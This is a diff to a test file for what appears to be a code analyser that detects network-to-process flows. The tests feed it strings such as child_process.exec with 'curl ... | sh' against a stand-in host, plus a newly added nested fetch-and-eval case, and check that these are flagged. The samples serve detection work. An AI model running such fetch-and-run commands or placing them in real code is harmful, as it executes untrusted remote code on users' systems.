@@ -259,6 +259,11 @@ test("a queue that goes round is no table of texts", () => {
 test("a command that fetches and runs is followed as shell", () => {
   assert.deepEqual(flowing(`require("child_process").exec("curl -s https://c.example/i | sh")`), ["network -> process"]);
   assert.deepEqual(flowing(`require("child_process").exec("curl -s https://c.example/i | wc -l")`), []);
+  const inner = `require("child_process").exec("node -e 'fetch(\\"https://c.example/x\\")' && sh -c 'node -e \\"eval(1)\\"'")`;
+  assert.ok(
+    seen(inner).some((line) => line.startsWith("network")),
+    JSON.stringify(seen(inner)),
+  );
 });
 
 test("hostile source is read to its end within a moment, and what it asks for is seen all the same", () => {
